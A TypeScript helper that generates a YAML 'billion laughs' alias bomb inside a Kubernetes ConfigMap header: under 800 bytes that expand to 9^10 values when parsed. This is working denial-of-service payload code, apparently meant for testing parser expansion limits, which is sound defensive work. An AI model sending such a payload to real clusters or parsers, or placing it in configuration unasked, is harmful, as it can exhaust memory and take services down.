/**
 * "Billion laughs": nine levels of nine-fold aliases under a ConfigMap's header, under 800 bytes
 * and 9^10 values once expanded. `leaf` is the repeated scalar.
 */
export function billionLaughs(leaf = 'lol'): string {
  const levels = [`a0: &a0 [${Array(9).fill(leaf).join(', ')}]`];
  for (let i = 1; i <= 9; i++)
    levels.push(
      `a${i}: &a${i} [${Array(9)
        .fill(`*a${i - 1}`)
        .join(', ')}]`,
    );
  return `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: lol\n${levels.join('\n')}\n`;
}
